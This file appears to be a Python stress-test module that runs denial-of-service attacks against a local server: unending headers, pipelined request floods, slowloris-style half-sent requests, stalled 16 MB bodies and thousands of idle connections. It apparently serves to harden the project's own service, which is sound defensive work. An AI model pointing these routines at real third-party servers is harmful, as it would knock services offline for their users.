"""Attacks on raw connections, without a token: heads, pipelines and bodies without end."""

import itertools
import socket
import threading
import time
from collections import deque
from contextlib import suppress

from bench.attacks import Target, done, side_by_side

POST = b"POST /api/v1/tasks HTTP/1.1\r\nHost: localhost\r\nContent-Type: application/json\r\n"
PAGES = (b"/nothing/", b"/static/dalston/pages.css")
MIB = 1024 * 1024


def _connect(target: Target) -> socket.socket:
    return socket.create_connection(("127.0.0.1", target.port), timeout=5)


def _send_for_ever(target: Target, head: bytes, chunk: bytes) -> None:
    with suppress(OSError), _connect(target) as connection:
        connection.sendall(head)
        while True:
            connection.sendall(chunk)
            done["chunks"] += 1


def header_without_end(target: Target) -> None:
    side_by_side(1, lambda _: _send_for_ever(target, b"GET /healthz HTTP/1.1\r\nHost: localhost\r\nX: ", b"a" * MIB))


def header_lines(target: Target) -> None:
    lines = b"x: aaaaaaaaaaaaaaaaaaaaaaaaaaaa\r\n" * 3000
    side_by_side(1, lambda _: _send_for_ever(target, b"GET /healthz HTTP/1.1\r\nHost: localhost\r\n", lines))


def pipelined_requests(target: Target) -> None:
    requests = b"GET /healthz HTTP/1.1\r\nHost: localhost\r\n\r\n" * 5000
    side_by_side(1, lambda _: _send_for_ever(target, b"", requests))


def pipelined_pages(target: Target) -> None:
    """Eight connections at a time, without a login: pages that do not exist and static files, which are read."""
    pages = b"".join(b"GET " + path + b" HTTP/1.1\r\nHost: localhost\r\n\r\n" for path in PAGES) * 1000

    def act(_: int) -> None:
        with suppress(OSError), _connect(target) as connection:
            threading.Thread(target=_read_all, args=[connection], daemon=True).start()
            while True:
                connection.sendall(pages)
                done["chunks"] += 1

    side_by_side(8, act)


def _read_all(connection: socket.socket) -> None:
    with suppress(OSError):
        while found := connection.recv(1_048_576):
            done["bytes read"] += len(found)


def half_sent_heads(target: Target) -> None:
    """500 connections that stay half-sent, opened again when they are closed."""
    held: list[socket.socket] = []
    for number in itertools.count():
        with suppress(OSError):
            held.append(_connect(target))
            held[-1].sendall(b"GET /healthz HTTP/1.1\r\nHost: loc")
            done["held"] += 1
        if len(held) > 500:
            held.pop(0).close()
        if number > 500:
            time.sleep(0.02)


def unfinished_bodies(target: Target) -> None:
    """40 bodies of 16 MB at a time, of a valid token, of which the last byte never comes."""
    head = POST + f"Authorization: Bearer {target.token}\r\nContent-Length: 16000000\r\n\r\n".encode()

    def hold(_: int) -> None:
        with suppress(OSError), _connect(target) as connection:
            connection.sendall(head)
            for _ in range(31):
                connection.sendall(b" " * 500_000)
            done["held"] += 1
            time.sleep(15)

    side_by_side(40, hold)


def idle_connections(target: Target) -> None:
    """5 000 connections that send nothing, opened again when they are closed: more than a process may have files."""
    held: deque[socket.socket] = deque()
    while True:
        with suppress(OSError):
            held.append(_connect(target))
            done["held"] += 1
        if len(held) > 5000:
            held.popleft().close()
